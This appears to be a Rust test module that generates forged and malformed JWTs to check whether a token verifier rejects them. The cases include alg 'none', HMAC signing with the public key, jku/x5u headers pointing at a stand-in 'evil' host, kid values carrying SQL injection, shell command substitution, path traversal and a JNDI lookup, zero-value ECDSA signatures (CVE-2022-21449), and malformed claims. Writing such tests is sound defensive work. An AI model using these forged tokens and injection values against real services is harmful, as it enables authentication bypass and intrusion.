//! The tokens: what is wrong with each, whose door it is for, and the token.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use jsonwebtoken::Algorithm;
use serde_json::{Value, json};

use super::{ED, ES, HS, ISSUER, RS, SECRET, World, but, claims, header, with};
use crate::door::NOW;
use crate::keys::{Pair, Signer, b64};

type Attack = (String, usize, String);

/// Every token; those who follow a URL in one come to `evil`.
pub(super) fn all(world: &World, evil: &str) -> Vec<Attack> {
    let mut attacks = Vec::new();
    algorithms(world, &mut attacks);
    keys(world, evil, &mut attacks);
    claims_that_are_wrong(world, &mut attacks);
    headers(world, &mut attacks);
    shapes(world, &mut attacks);
    attacks
}

fn algorithms(world: &World, attacks: &mut Vec<Attack>) {
    let World { secret, rsa, p256, ed25519, .. } = world;
    let text = claims().to_string();
    for name in ["none", "None", "NONE", "nOnE", "none ", "", "null", "HS0", "hs256", "HS256\\u0000"] {
        let message = format!("{}.{}", b64(format!(r#"{{"alg":"{name}","typ":"JWT"}}"#)), b64(&text));
        for door in [HS, RS, ES, ED] {
            attacks.push((format!("alg {name:?} without a signature"), door, format!("{message}.")));
        }
        attacks.push((
            format!("alg {name:?} with the right signature"),
            HS,
            format!("{message}.{}", secret.sign(&message)),
        ));
    }
    for alg in [r#"["HS256"]"#, "null", "256", "true", r#"{"alg":"HS256"}"#] {
        attacks.push((format!("alg is {alg}"), HS, secret.raw(format!(r#"{{"alg":{alg}}}"#), &text)));
    }
    attacks.push(("no alg".into(), HS, secret.raw(r#"{"typ":"JWT"}"#, &text)));
    // The public key as the secret of an HMAC.
    for (door, pair) in [(RS, rsa), (ES, p256), (ED, ed25519)] {
        let mut trimmed = pair.pem.trim_end().as_bytes().to_vec();
        for known in [pair.pem.as_bytes().to_vec(), std::mem::take(&mut trimmed), pair.raw.clone(), Vec::new()] {
            for algorithm in [Algorithm::HS256, Algorithm::HS512] {
                let forged = Signer::secret(algorithm, &known).token(&header(algorithm), &claims());
                attacks.push((format!("{algorithm:?} by {} known bytes", known.len()), door, forged));
            }
        }
    }
    // The right secret or key, by an algorithm that it is not for.
    for algorithm in [Algorithm::HS384, Algorithm::HS512] {
        let other = Signer::secret(algorithm, SECRET).token(&header(algorithm), &claims());
        attacks.push((format!("{algorithm:?}"), HS, other));
    }
    for algorithm in [Algorithm::RS384, Algorithm::RS512, Algorithm::PS384, Algorithm::PS512] {
        attacks.push((format!("{algorithm:?}"), RS, rsa.by(algorithm).token(&header(algorithm), &claims())));
    }
    // A header that names another algorithm than the signature is of.
    for (said, done) in [(Algorithm::RS256, Algorithm::PS256), (Algorithm::PS256, Algorithm::RS256)] {
        attacks.push((format!("{said:?} said, {done:?} done"), RS, rsa.by(done).token(&header(said), &claims())));
    }
    for (door, signer) in [(HS, secret), (RS, rsa.signer()), (ES, p256.signer()), (ED, ed25519.signer())] {
        for said in [Algorithm::HS256, Algorithm::RS256, Algorithm::ES256, Algorithm::EdDSA, Algorithm::ES384] {
            if said != signer.algorithm {
                let token = signer.token(&header(said), &claims());
                attacks.push((format!("{said:?} said, {:?} done", signer.algorithm), door, token));
            }
        }
    }
}

fn keys(world: &World, evil: &str, attacks: &mut Vec<Attack>) {
    let (rsa, p256, ed25519) = (Pair::rsa(2048), Pair::p256(), Pair::ed25519());
    for (door, pair) in [(RS, &rsa), (ES, &p256), (ED, &ed25519)] {
        let signer = pair.signer();
        let mut forge = |what: &str, fields: Value| {
            let token = signer.token(&with(signer.algorithm, fields), &claims());
            attacks.push((format!("another key, {what}"), door, token));
        };
        forge("nothing else", json!({}));
        forge("embedded as jwk", json!({"jwk": pair.jwk}));
        forge("at a jku", json!({"jku": format!("{evil}/jwks.json"), "kid": "1"}));
        forge("at the issuer's jku, by another user", json!({"jku": format!("{ISSUER}@{evil}/jwks.json")}));
        forge("at an x5u", json!({"x5u": format!("{evil}/cert.pem")}));
        forge("embedded as x5c", json!({"x5c": [STANDARD.encode(&pair.raw)]}));
        forge("as x5t", json!({"x5t": b64([0; 20]), "x5t#S256": b64([0; 32])}));
        forge("in a file", json!({"kid": "../../../../../../dev/null"}));
    }
    for (kid, secret) in [
        ("../../../../../../dev/null", ""),
        ("/dev/null", ""),
        ("/proc/sys/kernel/randomize_va_space", "2\n"),
        ("file:///dev/null", ""),
        ("' UNION SELECT 'AAAA' -- ", "AAAA"),
        ("1' OR '1'='1", "1"),
        ("1; DROP TABLE api_keys; --", ""),
        ("|echo AAAA", "AAAA"),
        ("$(echo AAAA)", "AAAA"),
        ("${jndi:ldap://evil.example/a}", ""),
        ("\u{0}", "\u{0}"),
    ] {
        let signer = Signer::secret(Algorithm::HS256, secret);
        let token = signer.token(&with(Algorithm::HS256, json!({"kid": kid})), &claims());
        attacks.push((format!("kid {kid:?}"), HS, token));
    }
    for kid in [json!(["1"]), json!({"$ne": null}), json!(1), json!(true)] {
        let token = world.secret.token(&with(Algorithm::HS256, json!({"kid": kid})), &claims());
        attacks.push((format!("kid is {kid}"), HS, token));
    }
    for (secret, what) in [("", "no secret"), ("secret", "a usual secret"), (&SECRET.to_uppercase(), "upper case")] {
        let token = Signer::secret(Algorithm::HS256, secret).token(&header(Algorithm::HS256), &claims());
        attacks.push((what.into(), HS, token));
    }
    // CVE-2022-21449: r and s of nothing; and a signature in DER, which is not how JWS has it.
    let message = format!("{}.{}", b64(header(Algorithm::ES256).to_string()), b64(claims().to_string()));
    let der = [&[0x30, 0x06, 0x02, 0x01, 0x01, 0x02, 0x01, 0x01][..]].concat();
    let order = b"\xff\xff\xff\xff\0\0\0\0\xff\xff\xff\xff\xff\xff\xff\xff\xbc\xe6\xfa\xad\xa7\x17\x9e\x84\xf3\xb9\xca\xc2\xfc\x63\x25\x51";
    for (what, signature) in [
        ("ES256 of zeros", vec![0; 64]),
        ("ES256 of nothing", Vec::new()),
        ("ES256 of the order of the curve", order.repeat(2)),
        ("ES256 in DER", der),
        ("ES256, too long", vec![1; 96]),
    ] {
        attacks.push((what.into(), ES, format!("{message}.{}", b64(signature))));
    }
    let message = format!("{}.{}", b64(header(Algorithm::EdDSA).to_string()), b64(claims().to_string()));
    for bytes in [0, 32, 63, 64, 65] {
        attacks.push((format!("EdDSA of {bytes} zeros"), ED, format!("{message}.{}", b64(vec![0; bytes]))));
    }
    let message = format!("{}.{}", b64(header(Algorithm::RS256).to_string()), b64(claims().to_string()));
    attacks.push(("RS256 of zeros".into(), RS, format!("{message}.{}", b64([0; 256]))));
    attacks.push(("RS256 of one".into(), RS, format!("{message}.{}", b64([&[0; 255][..], &[1]].concat()))));
}

fn claims_that_are_wrong(world: &World, attacks: &mut Vec<Attack>) {
    for changes in [
        json!({"exp": NOW - 31, "iat": NOW - 3600}),
        json!({"exp": 1, "iat": 0, "nbf": 0}),
        json!({"exp": (NOW - 31) as f64 + 0.5, "iat": NOW - 3600}),
        json!({"exp": null}),
        json!({"exp": (NOW + 3600).to_string()}),
        json!({"exp": true}),
        json!({"exp": [NOW + 3600]}),
        json!({"exp": -1}),
        json!({"exp": (NOW + 3600) * 1000}),
        json!({"exp": 1e300}),
        json!({"exp": NOW + 86_401}),
        json!({"exp": NOW - 1, "iat": NOW}),
        json!({"iat": null}),
        json!({"iat": NOW + 31, "nbf": null}),
        json!({"iat": "now"}),
        json!({"nbf": NOW + 31}),
        json!({"nbf": "soon"}),
        json!({"aud": "elsewhere"}),
        json!({"aud": null}),
        json!({"aud": ""}),
        json!({"aud": "VIGIE"}),
        json!({"aud": "vigie.example"}),
        json!({"aud": "vigie other"}),
        json!({"aud": ["elsewhere", "vigi"]}),
        json!({"aud": []}),
        json!({"aud": {"vigie": true}}),
        json!({"aud": [["vigie"]]}),
        json!({"iss": null}),
        json!({"iss": "https://other.example"}),
        json!({"iss": format!("{ISSUER}/")}),
        json!({"iss": "https://ISSUER.example"}),
        json!({"iss": [ISSUER]}),
        json!({"iss": format!("{ISSUER}@evil.example")}),
        json!({"sub": null}),
        json!({"sub": ""}),
        json!({"sub": 7}),
        json!({"sub": "a".repeat(256)}),
        json!({"sub": "alice\nadmin logged in"}),
        json!({"scope": 1}),
        json!({"scope": {"read:insights": true}}),
        json!({"jti": {}}),
        json!({"cnf": {"jkt": "0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I"}}),
        json!({"padding": "a".repeat(16 << 10)}),
    ] {
        let what = changes.to_string().chars().take(80).collect();
        attacks.push((what, HS, world.secret.token(&header(Algorithm::HS256), &but(changes))));
    }
    let text = claims().to_string();
    let twice = |field: &str| format!("{},{field}}}", &text[..text.len() - 1]);
    for field in [
        r#""exp":1900000000"#,
        r#""sub":"root""#,
        r#""aud":"vigie""#,
        r#""iss":"https://evil.example""#,
        r#""scope":"authors:read""#,
        r#""\u0073ub":"root""#,
    ] {
        attacks.push((
            format!("{field} twice"),
            HS,
            world.secret.raw(header(Algorithm::HS256).to_string(), twice(field)),
        ));
    }
    for payload in [
        "",
        "null",
        "[]",
        "{}",
        "\"alice\"",
        "{",
        &text[1..],
        &format!("{text} {{}}"),
        &format!("\u{feff}{text}"),
        &format!("[{text}]"),
        &text.replace(&format!("{}", NOW + 3600), "1e999"),
        &text.replace(&format!("{}", NOW + 3600), "NaN"),
        &text.replace(&format!("{}", NOW + 3600), "0x7fffffff"),
        &format!("{{\"deep\":{}{}", "[".repeat(5000), "]".repeat(5000)),
        &format!(r#"["alice","{ISSUER}","vigie",{NOW},{NOW},{},"1","read:insights",null]"#, NOW + 3600),
    ] {
        let what = format!("payload {:.60}", payload);
        attacks.push((what, HS, world.secret.raw(header(Algorithm::HS256).to_string(), payload)));
    }
    attacks.push((
        "payload not in UTF-8".into(),
        HS,
        world.secret.raw(header(Algorithm::HS256).to_string(), [0xff; 40]),
    ));
    let mut bytes = but(json!({"email": "a"})).to_string().into_bytes();
    let at = bytes.windows(3).position(|three| three == b"\"a\"").unwrap() + 1;
    bytes[at] = 0xff;
    let raw = world.secret.raw(header(Algorithm::HS256).to_string(), bytes);
    attacks.push(("claims with a byte that is no text where nobody looks".into(), HS, raw));
}

fn headers(world: &World, attacks: &mut Vec<Attack>) {
    for fields in [
        json!({"crit": ["exp"], "exp": NOW + 3600}),
        json!({"crit": ["b64"], "b64": true}),
        json!({"crit": ["b64"], "b64": false}),
        json!({"crit": ["http://evil.example/x"]}),
        json!({"crit": []}),
        json!({"crit": null}),
        json!({"crit": "exp"}),
        json!({"b64": false}),
        json!({"b64": true}),
        json!({"zip": "DEF"}),
        json!({"enc": "A128GCM"}),
        json!({"cty": "JWT"}),
        json!({"typ": "logout+jwt"}),
        json!({"typ": "dpop+jwt"}),
        json!({"typ": "secevent+jwt"}),
        json!({"typ": "JWE"}),
        json!({"typ": ["JWT"]}),
    ] {
        attacks.push((
            format!("header with {fields}"),
            HS,
            world.secret.token(&with(Algorithm::HS256, fields), &claims()),
        ));
    }
    for header in [
        r#"{"alg":"HS256","alg":"none"}"#,
        r#"{"alg":"none","alg":"HS256"}"#,
        r#"{"alg":"HS256","\u0061lg":"HS256"}"#,
        r#"{"alg":"HS256","kid":"1","kid":"2"}"#,
        r#"{"alg":"HS256"} {}"#,
        r#"["HS256","1","JWT"]"#,
        r#""HS256""#,
        "null",
        "",
        "{'alg':'HS256'}",
        "\u{feff}{\"alg\":\"HS256\"}",
    ] {
        attacks.push((format!("header {header}"), HS, world.secret.raw(header, claims().to_string())));
    }
}

fn shapes(world: &World, attacks: &mut Vec<Attack>) {
    let token = world.secret.token(&header(Algorithm::HS256), &claims());
    let other = world.secret.token(&header(Algorithm::HS256), &but(json!({"sub": "bob"})));
    let [head, payload, signature] = token.split('.').collect::<Vec<_>>()[..] else { panic!("{token}") };
    let theirs = other.rsplit('.').next().unwrap();
    let flipped = format!("{}{}", &signature[..42], if signature.ends_with('A') { "E" } else { "A" });
    let padded = |part: &str| format!("{part}{}", "=".repeat(4 - part.len() % 4));
    // The last of 43 digits has two bits that say nothing.
    let loose = |last: char| {
        let digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        digits.chars().nth(digits.find(last).unwrap() + 1).unwrap()
    };
    let flattened = json!({"protected": head, "payload": payload, "signature": signature}).to_string();
    let inner = world.secret.raw(with(Algorithm::HS256, json!({})).to_string(), &token);
    for (what, text) in [
        ("nothing", String::new()),
        ("a word", "x".into()),
        ("dots", "..".into()),
        ("many dots", ".".repeat(10_000)),
        ("no signature", format!("{head}.{payload}.")),
        ("no dot before the signature", format!("{head}.{payload}")),
        ("no payload", format!("{head}..{signature}")),
        ("no header", format!(".{payload}.{signature}")),
        ("a truncated signature", format!("{head}.{payload}.{}", &signature[..20])),
        ("a changed signature", format!("{head}.{payload}.{flipped}")),
        ("the signature of another", format!("{head}.{payload}.{theirs}")),
        ("the payload of another", format!("{head}.{}.{signature}", other.split('.').nth(1).unwrap())),
        ("the signature in lower case", format!("{head}.{payload}.{}", signature.to_lowercase())),
        ("the signature twice", format!("{token}.{signature}")),
        ("five parts, as encrypted", format!("{head}..{payload}.{signature}.{signature}")),
        ("a padded signature", format!("{head}.{payload}.{}", padded(signature))),
        ("a padded header", format!("{}.{payload}.{signature}", padded(head))),
        ("loose bits at the end", format!("{}{}", &token[..token.len() - 1], loose(token.chars().last().unwrap()))),
        ("a space in it", format!("{head}. {payload}.{signature}")),
        ("a tab in it", format!("{head}.{payload}.\t{signature}")),
        ("percent signs", token.replace('.', "%2E")),
        ("quotes", format!("\"{token}\"")),
        ("a comma and another", format!("{token},{other}")),
        ("Bearer twice", format!("Bearer {token}")),
        ("JWS in JSON", flattened),
        ("a nested token", inner),
        ("a header in base64 of the common alphabet", {
            let text = format!("{{\"alg\":\"HS256\",\"note\":\"{}\"}}", "\u{3fb}>?\u{fff}>?");
            let message = format!("{}.{payload}", STANDARD.encode(text).trim_end_matches('='));
            format!("{message}.{}", world.secret.sign(&message))
        }),
        ("a padded header that is signed", {
            let message = format!("{}.{payload}", URL_SAFE.encode(r#"{"alg":"HS256", "a":1}"#));
            format!("{message}.{}", world.secret.sign(&message))
        }),
        ("64 KiB", format!("{head}.{}.{signature}", "A".repeat(64 << 10))),
    ] {
        attacks.push((what.into(), HS, text));
    }
}
